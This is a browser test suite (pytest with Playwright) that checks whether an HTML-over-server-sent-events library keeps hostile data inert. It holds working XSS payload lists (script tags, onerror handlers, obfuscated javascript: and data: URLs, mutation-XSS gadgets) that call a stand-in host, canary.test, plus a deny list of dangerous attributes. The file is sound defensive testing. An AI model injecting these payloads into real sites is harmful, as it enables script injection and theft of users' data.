"""Whatever hostile data there is, it stays inert in the page."""

import re
from collections.abc import Iterable
from typing import Any

import pytest
from playwright.sync_api import Dialog, Page, Route

from tests.browser.conftest import Site, texts

pytestmark = pytest.mark.browser

#: What an attacker would run: a mark on the window, a request and a dialog.
CODE = "top.pwned=1;new Image().src=`//canary.test/code`;alert(1)"
#: Text that is code wherever it is taken for HTML, or for a piece of it.
MARKUP = [
    f'<img src=x onerror="{CODE}">',
    f"<script>{CODE}</script>",
    "<script src=//canary.test/js></script>",
    f"</script></title></textarea></style></template></svg><svg onload='{CODE}'>",
    f"\"'><input autofocus onfocus='{CODE}'>",
    f"' autofocus tabindex=0 onfocus='{CODE}",
    f"<iframe srcdoc='<script>{CODE}</script>'></iframe>",
    f"<iframe src='javascript:{CODE}'></iframe>",
    f"<a href='javascript:{CODE}'>a</a>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={CODE}&gt;'>",
    "<style>@import '//canary.test/css'</style>",
    "<link rel=stylesheet href=//canary.test/css>",
    "<meta http-equiv=refresh content='0;url=//canary.test/'>",
    "<base href=//canary.test/>",
    "<object data=//canary.test/x></object><embed src=//canary.test/x>",
    "<template data-sse-on=attack><img src=//canary.test/x></template>",
    "<sse-stream src=//canary.test/x></sse-stream>",
    f"{{{{ constructor.constructor('{CODE}')() }}}}${{{CODE}}}",
    "\u2028\u202e\x00]]><!--&lt;img src=x onerror=alert(1)&gt;",
]
#: Addresses that run, read or show what an attacker wrote, in all disguises that browsers see through.
ADDRESSES = [
    f"javascript:{CODE}",
    f"JaVaScRiPt:{CODE}",
    f"  javascript:{CODE}",
    f"\x00\x01\x1f javascript:{CODE}",
    f"java\nscript:{CODE}",
    f"j\ta\rv\nascript\t:{CODE}",
    f"\njavascript:{CODE}",
    f"javascript://%0a{CODE}",
    f"javascript:\u2028{CODE}",
    f"data:text/html,<script>{CODE}</script>",
    f"DATA:text/html;base64,{CODE}",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'/>",
    f"vbscript:{CODE}",
    "blob:http://127.0.0.1/5f0c4f1e-0000-0000-0000-000000000000",
    "filesystem:http://127.0.0.1/temporary/x",
    f"view-source:javascript:{CODE}",
    "file:///etc/passwd",
    "about:blank",
    "intent://canary.test/",
    "ws://canary.test/",
    "http://[",
]
#: Addresses that are what they look like.
HARMLESS = [
    "/x",
    "x?y=javascript:1",
    "#x",
    "",
    "?x",
    "http://h/",
    "HTTPS://h/",
    "\thttps://h",
    "mailto:a@h",
    "tel:1",
]
#: Touches everything that waits to be touched, and waits until what this sets off has come about.
PROD = """async () => {
    for (const one of document.querySelectorAll("body *")) {
        for (const name of ["mouseover", "focus", "focusin", "toggle", "load", "error", "animationstart"]) {
            one.dispatchEvent(new Event(name, { bubbles: true }));
        }
        if (one.click) one.click();
    }
    const image = new Image();
    const over = new Promise((done) => Object.assign(image, { onload: done }));
    image.src = "//canary.test/over";
    await over;
    await new Promise((done) => requestAnimationFrame(() => setTimeout(done)));
}"""
#: Finds attributes that the page's author did not write, and that do something.
ACTIVE = """() => [...document.querySelectorAll("body *")].flatMap(({ attributes }) => [...attributes])
    .map(({ name, value }) => `${name}=${value}`)
    .filter((it) => /^(on|style=|srcdoc=|(data-)?(href|src|poster)=[^a-z]*(java|vb|data|blob))/is.test(it))"""


class Canary:
    """It hears when anything of an attack comes about."""

    def __init__(self, page: Page) -> None:
        """Listen to a page that is open."""
        self.page = page
        self.heard: set[str] = set()
        page.context.route("**://canary.test/**", self._answer)
        page.on("dialog", self._close)
        page.on("popup", lambda _: self.heard.add("popup"))
        page.on("framenavigated", lambda _: self.heard.add("navigation"))

    def listen(self) -> set[str]:
        """Prod the page, and return what came about: marks, dialogs, requests, navigations."""
        self.page.evaluate(PROD)
        if self.page.evaluate("window.pwned"):
            self.heard.add("mark")
        return self.heard

    def _answer(self, route: Route) -> None:
        if route.request.url.endswith("/over"):
            pixel = "<svg xmlns='http://www.w3.org/2000/svg' width='1' height='1'/>"
            route.fulfill(content_type="image/svg+xml", body=pixel)
        else:
            self.heard.add("request")
            route.fulfill(status=204)

    def _close(self, dialog: Dialog) -> None:
        self.heard.add("dialog")
        dialog.dismiss()


def attack(site: Site, *payloads: object) -> None:
    """Send each payload under a name of its own, and under one that all share."""
    for number, payload in enumerate(payloads):
        site.send_all(*({"event": name, "data": {"a": payload}} for name in (f"attack-{number}", "attack")))


def for_each(payloads: Iterable[object], body: str) -> str:
    """Return a body in which each payload has these elements to itself."""
    return "".join(body.replace("EVENT", f"attack-{number}") for number, _ in enumerate(payloads))


def of_all(page: Page, selector: str, read: str) -> Any:
    """Return what an expression says of each element `it` that a selector finds."""
    return page.locator(selector).evaluate_all(f"(all) => all.map((it) => {read})")


@pytest.mark.parametrize(
    ("naive", "payload", "heard"),
    [
        ("box.innerHTML = it", MARKUP[0], {"mark", "dialog", "request"}),
        ("box.innerHTML = it", MARKUP[3], {"mark", "dialog", "request"}),
        ("box.innerHTML = it", MARKUP[6], {"mark", "dialog", "request", "navigation"}),
        ("box.innerHTML = it", MARKUP[10], {"request"}),
        (
            "box.append(document.createRange().createContextualFragment(it))",
            MARKUP[1],
            {"mark", "dialog", "request"},
        ),
        ("link.setAttribute('href', it)", ADDRESSES[0], {"mark", "dialog", "request"}),
        ("link.setAttribute('href', it)", ADDRESSES[3], {"mark", "dialog", "request"}),
        ("link.setAttribute('href', it)", ADDRESSES[5], {"mark", "dialog", "request"}),
        ("link.setAttribute('href', it)", "//canary.test/", {"request"}),
        ("box.setAttribute('onclick', it)", CODE, {"mark", "dialog", "request"}),
        ("box.setAttribute('style', it)", "background: url(//canary.test/x)", {"request"}),
        ("script.textContent = it", CODE, {"mark", "dialog", "request"}),
        ("style.textContent = it", "@import '//canary.test/css'", {"request"}),
        ("frame.srcdoc = it", f"<script>{CODE}</script>", {"mark", "dialog", "request", "navigation"}),
    ],
)
def test_the_canary_sings(
    page: Page, site: Site, complaints: list[str], naive: str, payload: str, heard: set[str]
) -> None:
    """The control: a page that puts the same data into the same places by itself is taken over."""
    body = "<main><p id=box></p><a id=link>a</a><script id=script></script><style id=style></style></main>"
    site.open(page, f"{body}<iframe id=frame></iframe>")
    canary = Canary(page)
    page.evaluate(f"void sse.on('attack', ({{ a: it }}) => {{ {naive}; }})")
    attack(site, payload)
    site.finish(page)
    assert canary.listen() >= heard
    complaints.clear()


def test_markup(page: Page, site: Site) -> None:
    """In every place that takes text, markup is the text that it is."""
    swaps = ["text", "html", "append", "prepend", "before", "after", "replace"]
    body = "".join(
        f'<section><p data-sse-on="EVENT" data-sse-swap="{swap}" data-sse-key="a"></p></section>'
        f'<section><p></p></section><i data-sse-on="EVENT" data-sse-swap="{swap}" data-sse-key="a" '
        'data-sse-target="section:has(+ [data-sse-on=EVENT]) > p"></i>'
        for swap in swaps
    )
    # Each <i> aims at its own neighbour: the selector is the author's.
    for number in range(len(swaps)):
        body = body.replace("section:has(+ [data-sse-on=EVENT])", f"#EVENT-{number}", 1)
        body = body.replace("<section><p></p>", f'<section id="EVENT-{number}"><p></p>', 1)
    site.open(page, for_each(MARKUP, body))
    canary = Canary(page)
    attack(site, *MARKUP)
    site.finish(page)
    shown = [text for text in texts(page, "section") if text]
    assert shown == [payload for payload in MARKUP for _ in range(len(swaps) * 2)]
    assert page.locator("section :not(p, div)").count() == 0
    assert page.evaluate(ACTIVE) == []
    assert canary.listen() == set()


def test_markup_in_templates(page: Page, site: Site) -> None:
    """In copies of templates it is text and the words of attributes, and in ids no more than their end."""
    swaps = ["append", "prepend", "before", "after", "html"]
    part = '<u id="part-" data-sse-id="a" data-sse-key="a" data-sse-attr="title:a aria-label:a data-x:a"></u>'
    body = "".join(
        f'<section><template data-sse-on="EVENT" data-sse-swap="{swap}">{part}</template></section>'
        for swap in swaps
    )
    site.open(page, for_each(MARKUP, body))
    canary = Canary(page)
    attack(site, *MARKUP)
    site.finish(page)
    read = "[it.textContent, it.title, it.getAttribute('aria-label'), it.dataset.x, it.id]"
    expected = [[it, it, it, it, f"part-{it}"] for it in MARKUP for _ in swaps]
    assert of_all(page, "u", read) == expected
    assert page.locator("section :not(u, template)").count() == 0
    assert page.evaluate(ACTIVE) == []
    assert canary.listen() == set()


def test_markup_in_values(page: Page, site: Site) -> None:
    """In fields and in attributes it is a value; a class is there or not, and never the data's own."""
    site.open(
        page,
        for_each(
            MARKUP,
            """
            <textarea data-sse-on="EVENT" data-sse-swap="value" data-sse-key="a"></textarea>
            <textarea data-sse-on="EVENT" data-sse-swap="text" data-sse-key="a"></textarea>
            <b data-sse-on="EVENT" data-sse-swap="attr:title" data-sse-key="a"></b>
            <b data-sse-on="EVENT" data-sse-swap="class:x" data-sse-key="a" data-sse-attr="title:a"></b>
            <progress data-sse-on="EVENT" data-sse-key="a"></progress>
            """,
        ),
    )
    canary = Canary(page)
    attack(site, *MARKUP)
    site.finish(page)
    assert of_all(page, "textarea", "it.value") == [it for it in MARKUP for _ in range(2)]
    assert of_all(page, "b", "[it.title, it.className]") == [[it, no] for it in MARKUP for no in ("", "x")]
    assert of_all(page, "progress", "it.position") == [-1] * len(MARKUP)
    assert page.locator("body *:not(textarea, b, progress, sse-stream, script)").count() == 0
    assert page.evaluate(ACTIVE) == []
    assert canary.listen() == set()


def test_addresses(page: Page, site: Site, complaints: list[str]) -> None:
    """An address that runs is refused wherever one may stand; what stood there goes, the rest is shown."""
    site.open(
        page,
        for_each(
            ADDRESSES,
            """
            <a href="#old" data-sse-on="EVENT" data-sse-attr="href:a title:a" data-sse-key="a"></a>
            <img data-sse-on="EVENT" data-sse-swap="attr:src" data-sse-key="a">
            <video data-sse-on="EVENT" data-sse-attr="src:a data-src-large:a title:a"></video>
            <p><template data-sse-on="EVENT">
              <a href="#old" title="old" data-sse-attr="href:a title:a" data-sse-key="a"></a>
              <i data-sse-attr="data-src:a data-href:a title:a"></i>
            </template></p>
            """,
        ),
    )
    canary = Canary(page)
    attack(site, *ADDRESSES)
    site.finish(page)
    names = "['href', 'src', 'data-src-large', 'data-href', 'data-src']"
    addresses = f"{names}.some((name) => it.hasAttribute(name))"
    assert of_all(page, "a, img, video, i", addresses) == [False] * 5 * len(ADDRESSES)
    assert of_all(page, "a, video, i", "it.title") == [it for it in ADDRESSES for _ in range(4)]
    assert texts(page, "a") == [it for it in ADDRESSES for _ in range(2)]
    assert len(complaints) == 7 * len(ADDRESSES), "each is reported once"
    assert all(re.search(r"no [-\w]+: ", complaint) for complaint in complaints)
    complaints.clear()
    assert page.evaluate(ACTIVE) == []
    assert canary.listen() == set()


def test_addresses_that_lead_somewhere(page: Page, site: Site) -> None:
    """Relative ones, those of the web, of mail and telephones are what they are for."""
    site.open(page, for_each(HARMLESS, '<a data-sse-on="EVENT" data-sse-attr="href:a data-src:a"></a>'))
    attack(site, *HARMLESS)
    site.finish(page)
    read = "[it.getAttribute('href'), it.getAttribute('data-src')]"
    assert of_all(page, "a", read) == [[it, it] for it in HARMLESS]


REFUSED = [
    *(
        ("p", name)
        for name in ("onclick", "ONCLICK", "onmouseover", "ontoggle", "on", "style", "Style", "is", "id")
    ),
    *(
        ("p", name)
        for name in ("class", "slot", "part", "nonce", "popover", "contenteditable", "href", "xlink:href")
    ),
    *(
        ("p", name)
        for name in ("data-sse-on", "data-sse-swap", "data-sse-target", "data-sse", "DATA-SSE-ON", "data-")
    ),
    *(
        ("p", name)
        for name in ("hx-get", "x-data", "@click", "v-html", "_", "title=", "aria-x/onclick", "constructor")
    ),
    *(
        ("a", name)
        for name in ("HREF", "ping", "target", "download", "rel", "xlink:href", "attributionsrc", "style")
    ),
    *(("form", name) for name in ("action", "method", "target", "name", "onsubmit")),
    *(("button", name) for name in ("formaction", "type", "form", "name", "popovertarget", "commandfor")),
    *(("input", name) for name in ("formaction", "type", "pattern", "list", "onfocus", "href")),
    *(("img", name) for name in ("srcset", "onerror", "usemap", "href", "longdesc", "lowsrc")),
    *(("iframe", name) for name in ("src", "srcdoc", "allow", "sandbox", "title")),
    *(("script", name) for name in ("src", "type", "title", "data-x")),
    *(("link", name) for name in ("href", "rel", "disabled", "title")),
    *(("style", name) for name in ("media", "title", "data-x")),
    *(("meta", name) for name in ("content", "http-equiv")),
    *(("base", name) for name in ("href", "target")),
    *(("object", name) for name in ("data", "width")),
    *(("embed", name) for name in ("src", "title")),
    *((tag, "src") for tag in ("turbo-frame", "include-fragment", "p", "svg", "use")),
    *((tag, "href") for tag in ("use", "image", "animate", "svg", "base", "x-a")),
    *(("video", name) for name in ("autoplay", "onloadstart", "href")),
]


def test_attributes(page: Page, site: Site, complaints: list[str]) -> None:
    """An attribute that runs, loads, restyles or listens is not set; it is reported once for each event."""
    in_svg = {"use", "image", "animate"}

    def element(tag: str, attributes: str) -> str:
        it = f'<{tag} data-sse-on="attack" {attributes}></{tag}>'
        return f"<svg>{it}</svg>" if tag in in_svg else it

    site.open(
        page,
        "".join(
            element(tag, f'data-sse-swap="attr:{name}" data-sse-key="a"')
            + element(tag, f'data-sse-attr="{name}:a"')
            for tag, name in REFUSED
        )
        + '<b data-sse-on="attack" data-sse-key="a" data-sse-attr="onclick:a title:a style:a"></b>',
    )
    canary = Canary(page)
    listening = "[data-sse-on=attack]:not(b)"
    before = of_all(page, listening, "it.outerHTML")
    assert len(before) == 2 * len(REFUSED)
    attack(site, CODE)
    site.finish(page)
    assert of_all(page, listening, "it.outerHTML") == before
    assert texts(page, "b") == [CODE]
    assert page.locator("b").get_attribute("title") == CODE
    assert page.evaluate("sse.state") == "open"
    assert page.evaluate(ACTIVE) == []
    assert len(complaints) == len(before) + 2
    assert all("from data" in complaint for complaint in complaints)
    complaints.clear()
    assert canary.listen() == set()


def test_a_stream_is_not_led_elsewhere(page: Page, site: Site, complaints: list[str]) -> None:
    """The element of a stream takes no address of the data: who answers there could send fragments."""
    address = f"/events/?topic={site.topic}"
    hears = 'data-sse-on="attack" data-sse-attr="src:a last-id:a"'
    site.open(page, f'<sse-stream src="{address}" {hears}></sse-stream>')
    canary = Canary(page)
    site.send("attack", {"a": "//canary.test/events/"})
    site.finish(page)
    assert page.locator("sse-stream").first.get_attribute("src") == address
    assert complaints
    assert all("from data: sse-stream" in complaint for complaint in complaints)
    complaints.clear()
    assert canary.listen() == set()


def test_elements_whose_text_runs(page: Page, site: Site, complaints: list[str]) -> None:
    """Code, sheets and frames take no text: not by themselves, by a target, or in a template."""
    tags = ["script", "style", "iframe", "object", "embed", "link", "meta", "base"]
    body = ""
    for tag in tags:
        for swap in ("text", "html", "append", "prepend"):
            body += f'<{tag} data-sse-on="attack" data-sse-swap="{swap}" data-sse-key="a"></{tag}>'
        body += f'<template data-sse-on="attack"><{tag} data-sse-key="a"></{tag}></template>'
        body += f'<{tag} class="x"></{tag}>'
        body += f'<svg><{tag} data-sse-on="attack" data-sse-key="a"></{tag}></svg>'
    aims = "".join(
        f'<b data-sse-on="attack" data-sse-key="a" data-sse-target=".x" data-sse-swap="{swap}"></b>'
        for swap in ("text", "html", "append")
    )
    site.open(page, f"<main>{body}</main>{aims}")
    canary = Canary(page)
    attack(site, CODE, f"@import '//canary.test/css'; {CODE}")
    site.finish(page)
    read = "[...it.childNodes].filter(({ nodeType }) => nodeType === 3).length"
    everywhere = ", ".join(f"main {tag}" for tag in tags)
    assert of_all(page, everywhere, read) == [0] * page.locator(everywhere).count()
    assert page.evaluate(ACTIVE) == []
    assert canary.listen() == set()
    assert len(complaints) >= 2 * 6 * len(tags)
    assert all("no value from data" in complaint for complaint in complaints)
    complaints.clear()


def test_keys(page: Page, site: Site) -> None:
    """A key finds data of any name, nothing that objects inherit, and changes no object of the page."""
    keys = [
        "__proto__.constructor.name",
        "constructor.name",
        "constructor.length",
        "a.__proto__.constructor.name",
    ]
    site.open(page, "".join(f'<p data-sse-on="news" data-sse-key="{key}"></p>' for key in keys))
    site.send("news", text='{"a": "old"}')
    site.finish(page)
    assert texts(page, "p") == [""] * len(keys)
    hostile = '{"constructor": {"name": "own"}, "name": "polluted"}'
    site.send("news", text=f'{{"__proto__": {hostile}, "constructor": {{"name": "mine", "length": 0}}}}')
    site.finish(page)
    assert texts(page, "p") == ["own", "mine", "0", ""]
    assert page.evaluate("[{}.name, {}.constructor.name]") == [None, "Object"]


def test_ids(page: Page, site: Site) -> None:
    """An id of the data reaches only a child of the same list, whatever selector it looks like."""
    site.open(
        page,
        """
        <p id="row-x">elsewhere</p>
        <ul><li id="row-1">one</li><li>two</li>
          <template data-sse-on="attack" data-sse-swap="remove">
            <li id="row-" data-sse-id="a"></li>
          </template>
          <template data-sse-on="attack" data-sse-swap="replace">
            <li id="row-" data-sse-id="a"></li>
          </template>
        </ul>
        """,
    )
    before = of_all(page, "p, ul", "it.outerHTML")
    looks = ["x", "1, *", "*", "1] , li", "\\31 ", "1 > *", None, [1], {"a": 1}, "1\x00", ""]
    attack(site, *looks)
    site.finish(page)
    assert of_all(page, "p, ul", "it.outerHTML") == before


def test_fragments(page: Page, site: Site) -> None:
    """What stands in a fragment's context is text, and a script of its own template does not run."""
    inline = f"<script>{CODE}</script><svg><script>{CODE}</script></svg>"
    scripts = f"{inline}<script src=//canary.test/js></script>"
    shows = "{% for it in all %}<p title='{{ it }}' data-x={{ it|urlencode }}>{{ it }}</p>{% endfor %}"
    swaps = ["append", "prepend", "before", "after", "replace", "html"]
    site.open(page, "".join(f'<main><i id="{swap}"></i></main>' for swap in swaps))
    canary = Canary(page)
    clean = [it.replace("\x00", "") for it in MARKUP]  # HTML has no NUL
    for swap in swaps:
        html = f"<section>{shows}{scripts}</section>{scripts}"
        site.send_html(html, context={"all": clean}, target=f"#{swap}", swap=swap)
    site.finish(page)
    assert page.locator("main script").count() == 6 * len(swaps)
    assert texts(page, "main p") == clean * len(swaps)
    assert of_all(page, "main p", "it.title") == clean * len(swaps)
    assert page.locator("main p *").count() == 0
    assert canary.listen() == set()


def test_data_that_looks_like_a_fragment(page: Page, site: Site) -> None:
    """Only the server's own event is a fragment: data of the same form is data."""
    site.open(page, '<b data-sse-on="attack"></b>')
    canary = Canary(page)
    for payload in MARKUP:
        site.send("attack", {"target": "body", "swap": "html", "html": payload, "e": "sse-fragment"})
    site.finish(page)
    assert page.locator("b").count() == 1
    assert page.locator("b *").count() == 0
    assert canary.listen() == set()
